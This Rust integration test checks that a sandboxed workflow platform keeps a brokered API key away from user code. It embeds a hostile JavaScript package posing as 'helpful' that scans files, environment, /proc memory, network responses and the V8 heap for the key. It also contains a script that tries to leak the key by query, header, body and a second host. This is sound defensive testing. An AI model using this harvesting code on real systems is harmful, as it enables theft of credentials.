//! A linked account is used by code that does not have its credential: the stolen-credential test.

use crate::kit::{Counterpart, Home, Needles, Server};
use aws_lc_rs::digest::{SHA256, digest};
use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::IntoResponse;
use axum::routing::any;
use causeway_store::testing::TestDatabase;
use causeway_store::{db, on_both};
use causeway_types::entity::AuditRow;
use data_encoding::{BASE64, HEXLOWER};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};
use tokio::net::TcpListener;

on_both!(
    code_uses_a_credential_that_it_never_has,
    code_under_gvisor_uses_a_credential_that_it_never_has,
);

/// The real key. Nothing that code can read may hold it.
const KEY: &str = "sk_live_9fQ2mX7vT4bL8nR1wZ6cK3pD5hJ0gYs";

const MANIFEST: &str = "egress: [localhost]
minimum_tier: TIER
limits: { memory_mib: 1024, cpu_seconds: 300, wall_seconds: 300 }
steps:
  - name: uses
    run: ./uses.mjs
    connections: { app: LINK }
  - name: robs
    run: ./robs.mjs
    connections: { app: LINK }
";

const EXPOSED: &str = "{ name: acme, expose: true }";

const USES: &str = "
import http from 'node:http';
const APP = 'APP_URL';
const get = (path, headers) => new Promise((ok, no) => http.get(APP + path, { headers }, (r) => { r.resume(); r.on('end', () => ok(r.statusCode)); }).on('error', no));
const refusal = async (answer) => { const r = await answer; return [r.status, (await r.json()).code]; };
export default async ({ connections }) => {
  const key = connections.app.$auth.api_key;
  const headers = { authorization: `Bearer ${key}` };
  const basic = { authorization: `Basic ${Buffer.from(`${key}:`).toString('base64')}` };
  const echo = await (await fetch(`${APP}/echo`, { method: 'POST', headers, body: 'x' })).text();
  console.log('the key is', key);
  return {
    key,
    fetch: (await fetch(`${APP}/me`, { headers })).status,
    http: await get('/me', headers),
    basic: await get('/basic', basic),
    echo,
    query: await refusal(fetch(`${APP}/echo?q=${key}`)),
    header: await refusal(fetch(`${APP}/echo`, { headers: { ...headers, 'x-note': key } })),
    body: await refusal(fetch(`${APP}/echo`, { method: 'POST', headers, body: JSON.stringify({ text: key }) })),
    path: await refusal(fetch(`${APP}/echo/${key}`, { headers })),
    missing: await refusal(fetch(`${APP}/me`)),
    elsewhere: (await fetch(`COUNTERPART_URL/count/key?${key}`)).status,
  };
};
";

/// A package that looks everywhere for what it knows the hashes of.
const THIEF: &str = "
import crypto from 'node:crypto'; import fs from 'node:fs'; import http from 'node:http'; import path from 'node:path'; import v8 from 'node:v8';
const sha = (bytes) => crypto.createHash('sha256').update(bytes).digest('hex');
/** Looks for texts of which only length, a rolling sum and SHA-256 are known. */
function search(bytes, wanted) {
  for (const { length, sum, sha256 } of wanted) {
    let power = 1; for (let i = 1; i < length; i++) power = Math.imul(power, 31);
    let now = 0;
    for (let at = 0; at < bytes.length; at++) {
      if (at >= length) now = (now - Math.imul(bytes[at - length], power)) | 0;
      now = (Math.imul(now, 31) + bytes[at]) | 0;
      if (now === sum && at + 1 >= length && sha(bytes.subarray(at + 1 - length, at + 1)) === sha256) return true;
    }
  }
  return false;
}
function files(folder, found = []) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const at = path.join(folder, entry.name);
    try {
      if (entry.isDirectory() && at !== '/dev') files(at, found);
      else if (entry.isFile() && fs.statSync(at).size < 5e6) found.push([at, fs.readFileSync(at)]);
    } catch { /* what cannot be read is no help */ }
  }
  return found;
}
async function traffic(app, $auth) {
  const seen = [];
  const headers = { authorization: `Bearer ${$auth.api_key}`, 'accept-encoding': 'gzip' };
  for (const what of ['/echo', '/base64', '/slow']) {
    const answer = await fetch(app + what, { headers, method: 'POST', body: 'x' });
    seen.push(JSON.stringify([...answer.headers]), await answer.text());
  }
  seen.push(await new Promise((ok, no) => http.get(app + '/echo', { headers }, (r) => { let all = JSON.stringify(r.rawHeaders); r.on('data', (d) => all += d); r.on('end', () => ok(all)); }).on('error', no)));
  return seen;
}
export async function rob(wanted, app, $auth) {
  const places = [];
  const look = (place, bytes) => { if (search(Buffer.from(bytes), wanted)) places.push(place); };
  look('its own argument', JSON.stringify($auth));
  look('environment', JSON.stringify(process.env) + JSON.stringify(process.argv) + JSON.stringify(process.execArgv));
  look('report', JSON.stringify(process.report.getReport()));
  for (const [name, bytes] of files('/')) look(name, bytes);
  for (const name of ['/proc/self/mem', '/proc/self/environ', '/proc/1/environ']) {
    try { look(name, fs.readFileSync(name)); } catch { /* there is none */ }
  }
  for (const text of await traffic(app, $auth)) look('traffic', text);
  for (let i = 0; i < 64; i++) look('old buffers', Buffer.allocUnsafe(65536));
  const parts = []; for await (const part of v8.getHeapSnapshot()) parts.push(part);
  look('heap', Buffer.concat(parts.map((part) => Buffer.from(part))));
  return places;
}
";

const ROBS: &str = "
import { rob } from 'helpful';
export default async ({ event, connections }) => ({ places: await rob(event.body.wanted, 'APP_URL', connections.app.$auth) });
";

async fn code_uses_a_credential_that_it_never_has(database: TestDatabase) {
    assert_is_kept(database, "jail").await;
}

async fn code_under_gvisor_uses_a_credential_that_it_never_has(database: TestDatabase) {
    assert_is_kept(database, "gvisor").await;
}

async fn assert_is_kept(database: TestDatabase, tier: &str) {
    let manifest = MANIFEST.replace("TIER", tier);
    let app = Arc::new(App::default());
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let router = Router::new().fallback(any(answer)).with_state(Arc::clone(&app));
    tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
    let url = format!("http://{address}");
    let other = Counterpart::start().await;
    let apps = tempfile::tempdir().unwrap();
    std::fs::create_dir(apps.path().join("vaulted")).unwrap();
    std::fs::write(apps.path().join("vaulted/app.yaml"), row(&url)).unwrap();
    let allowed = format!("127.0.0.1/32:{},127.0.0.0/8,::1/128", address.port());
    let apps_dir = apps.path().display().to_string();
    let home = Home::with_flags(database, &["--net-allow", &allowed, "--apps-dir", &apps_dir]);
    let server = home.serve_logging("info,causeway=trace");
    let fields = home.path("key.json");
    std::fs::write(&fields, json!({ "api_key": KEY }).to_string()).unwrap();
    let fields = format!("@{}", fields.display());
    let add = [
        "connections",
        "add",
        "--json",
        "--app=vaulted",
        "--customer=ada",
        "--name=acme",
        "--fields",
    ];
    let made = home.cli(&server, &[&add[..], &[&fields]].concat()).json();

    let elsewhere = other.url().replace("127.0.0.1", "localhost");
    let uses = USES.replace("APP_URL", &url).replace("COUNTERPART_URL", &elsewhere);
    let thief = ROBS.replace("APP_URL", &url);
    let package = r#"{ "name": "helpful", "type": "module", "exports": "./index.js" }"#;
    let files = [
        ("uses.mjs", uses.as_str()),
        ("robs.mjs", thief.as_str()),
        ("node_modules/helpful/package.json", package),
        ("node_modules/helpful/index.js", THIEF),
    ];
    let brokered = manifest.replace("LINK", "acme");
    let shown = run(&home, &server, "brokered", &brokered, &files).await;
    assert_eq!(shown["tier"], tier, "{shown:#}");
    let [uses, robbed] = shown["steps"].as_array().unwrap().as_slice() else { panic!("{shown:#}") };
    let got = &uses["return_value"];
    let key = got["key"].as_str().unwrap_or_else(|| panic!("{shown:#}"));
    assert!(key.starts_with("sk_live_") && key != KEY, "a placeholder of the key's shape: {key}");
    for way in ["fetch", "http", "basic"] {
        assert_eq!(got[way], 200, "{way}: {shown:#}");
    }
    let echo = got["echo"].as_str().unwrap();
    assert!(echo.contains(&"*".repeat(KEY.len())) && !echo.contains("[redacted]"), "{echo}");
    for place in ["query", "header", "body", "path"] {
        assert_eq!(got[place], json!([403, "placeholder_misplaced"]), "{place}");
    }
    assert_eq!(got["missing"], json!([403, "credential_missing"]));
    assert_eq!((&got["elsewhere"], other.calls("key")), (&json!(200), vec![key.to_owned()]));
    assert!(uses["logs"].to_string().contains(key), "a placeholder is no secret");
    assert_eq!(robbed["return_value"], json!({ "places": [] }), "{shown:#}");
    assert!(app.seen.lock().unwrap().iter().all(|line| !line.contains(key)), "{key}");
    let decided = |decision: &str| {
        let all = uses["egress"].as_array().unwrap().iter();
        all.filter(|one| one["decision"] == decision).count()
    };
    assert_eq!((decided("brokered"), decided("refused"), decided("passed")), (4, 5, 1), "{uses:#}");

    let rows = events(&home).await;
    let refused: Vec<&Value> =
        rows.iter().filter(|row| row["action"] == "placeholder_refused").collect();
    assert_eq!(refused.len(), 4, "{refused:#?}");
    assert_eq!(refused[0]["connection"], made["id"]);
    assert_eq!(refused[0]["place"], "the query parameter `q`");
    assert_eq!(
        (&refused[0]["field"], &refused[0]["host"]),
        (&json!("api_key"), &json!("127.0.0.1"))
    );
    assert!(!json!(refused).to_string().contains(key));

    // The thief would have found it.
    let (head, rest) = manifest.split_once("  - name: uses").unwrap();
    let (_, rest) = rest.split_once("  - name: robs").unwrap();
    let exposed = format!("{head}  - name: robs{rest}").replace("LINK", EXPOSED);
    let folder = home.write_workflow("exposed", &exposed, &files);
    let refused = home.cli(&server, &["deploy", folder.to_str().unwrap()]);
    assert!(refused.refusal().contains("credential_export"), "{refused:?}");
    server.let_credentials_out().await;
    let planned = home.cli(&server, &["deploy", "--plan", folder.to_str().unwrap()]);
    assert!(planned.stdout.contains("GIVES ITS CREDENTIAL TO THE CODE"), "{planned:?}");
    let shown = run(&home, &server, "exposed", &exposed, &files).await;
    let robbed = &shown["steps"][0]["return_value"]["places"];
    for place in ["its own argument", "heap", "traffic"] {
        assert!(robbed.as_array().unwrap().contains(&json!(place)), "{place}: {shown:#}");
    }
    for (name, is_exposed) in [("exposed", true), ("brokered", false)] {
        assert_shown(&server, name, &json!([{ "name": "acme", "exposed": is_exposed }])).await;
    }
    let deployed = events(&home).await;
    assert!(deployed.iter().any(|row| row["exposes"] == json!(["acme"])), "{deployed:#?}");

    let needles = Needles::new([("the key", KEY)]);
    needles.assert_absent("the API", shown.to_string());
    needles.assert_absent_at_rest(&home);
    needles.assert_absent("the server's log", server.log());
    server.stop();
}

/// What the API says of a workflow's connections.
async fn assert_shown(server: &Server, name: &str, wanted: &Value) {
    let workflows = server.get("workflows").await["data"].clone();
    let found = workflows.as_array().unwrap().iter().find(|one| one["name"] == name).unwrap();
    let workflow = server.get(&format!("workflows/{}", found["id"].as_str().unwrap())).await;
    assert_eq!(&workflow["connections"], wanted, "{workflow:#}");
}

async fn run(
    home: &Home,
    server: &Server,
    name: &str,
    manifest: &str,
    files: &[(&str, &str)],
) -> Value {
    let trigger = home.deploy(server, name, manifest, files);
    let invocation = server.start_invocation(&trigger, &json!({ "wanted": wanted() })).await;
    server.tail(&invocation).await;
    server.get(&format!("invocations/{invocation}")).await
}

/// What the thief is told of the key, its base64 and its halves.
fn wanted() -> Vec<Value> {
    let (first, second) = KEY.split_at(KEY.len() / 2);
    let base64 = BASE64.encode(KEY.as_bytes());
    let pair = BASE64.encode(format!("{KEY}:").as_bytes());
    let texts = [KEY, first, second, base64.trim_end_matches('='), pair.trim_end_matches('=')];
    let known = |text: &&str| {
        let bytes = text.as_bytes();
        let sum = bytes
            .iter()
            .fold(0_i32, |sum, byte| sum.wrapping_mul(31).wrapping_add(i32::from(*byte)));
        let sha256 = HEXLOWER.encode(digest(&SHA256, bytes).as_ref());
        json!({ "length": bytes.len(), "sum": sum, "sha256": sha256 })
    };
    texts.iter().map(known).collect()
}

/// The events of the audit chain.
async fn events(home: &Home) -> Vec<Value> {
    let mut conn = home.database.store.read().await.unwrap();
    let rows = db!(conn, audit::page(home.tenant().workspace, 0, 1000)).unwrap();
    let event = |row: &AuditRow| {
        let mut event: Value = serde_json::from_str(&row.detail).unwrap();
        event["action"] = json!(row.action);
        event
    };
    rows.iter().map(event).collect()
}

/// The app: it knows its key, and says back what it hears.
#[derive(Default)]
struct App {
    seen: Mutex<Vec<String>>,
}

async fn answer(
    State(app): State<Arc<App>>,
    uri: Uri,
    headers: HeaderMap,
    body: Bytes,
) -> axum::response::Response {
    let said = format!("{uri} {headers:?} {}", String::from_utf8_lossy(&body));
    app.seen.lock().unwrap().push(said.clone());
    let authorization = headers.get("authorization").map_or("", |value| value.to_str().unwrap());
    match uri.path() {
        "/me" if authorization == format!("Bearer {KEY}") => "you".into_response(),
        "/basic"
            if authorization
                == format!("Basic {}", BASE64.encode(format!("{KEY}:").as_bytes())) =>
        {
            "you".into_response()
        }
        "/me" | "/basic" => StatusCode::UNAUTHORIZED.into_response(),
        "/base64" => BASE64.encode(format!("a{authorization}").as_bytes()).into_response(),
        "/slow" => {
            let text = authorization.to_owned().into_bytes();
            let pieces =
                text.into_iter().map(|byte| Ok::<_, std::io::Error>(Bytes::from(vec![byte])));
            axum::body::Body::from_stream(tokio_stream::iter(pieces.collect::<Vec<_>>()))
                .into_response()
        }
        _ => ([("x-echo", authorization.to_owned())], format!("{said} {authorization}"))
            .into_response(),
    }
}

fn row(url: &str) -> String {
    let host = url.trim_start_matches("http://");
    format!(
        "slug: vaulted
name: Vaulted
description: An app that says back what it hears.
docs: https://vaulted.example/
categories: [developer-tools]
hosts: [\"{host}\"]
auth:
  api_key:
    docs: https://vaulted.example/keys
    fields: [{{ name: api_key, label: Key }}]
    send: {{ headers: {{ Authorization: \"Bearer {{api_key}}\" }} }}
verify: {{ url: \"{url}/me\" }}
looks_like: {{ api_key: [\"sk_test_{{alnum:31}}\", \"sk_live_{{alnum:31}}\"] }}
api: {{ base_url: \"{url}\" }}
"
    )
}
